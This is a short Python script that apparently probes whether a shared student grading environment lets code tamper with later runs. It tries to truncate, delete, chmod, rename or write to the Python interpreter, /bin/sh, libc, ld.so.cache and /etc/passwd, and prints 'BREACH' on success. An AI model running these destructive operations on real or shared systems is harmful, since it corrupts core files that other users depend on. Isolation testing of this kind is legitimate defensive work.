# Overwrites the programs that later students will run.
import os

for path in ("/proc/self/exe", os.path.realpath("/usr/bin/python3"), "/bin/sh", os.__file__,
             "/lib/x86_64-linux-gnu/libc.so.6", "/etc/ld.so.cache", "/etc/passwd"):
    for way in (lambda: os.open(path, os.O_WRONLY), lambda: os.open(path, os.O_RDONLY | os.O_TRUNC),
                lambda: os.unlink(path), lambda: os.chmod(path, 0o777), lambda: os.utime(path),
                lambda: os.rename(path, path + "2"),
                lambda: os.setxattr(path, "user.x", b"1")):
        try:
            way()
            print("BREACH:", path)
        except OSError as error:
            print(error.strerror)
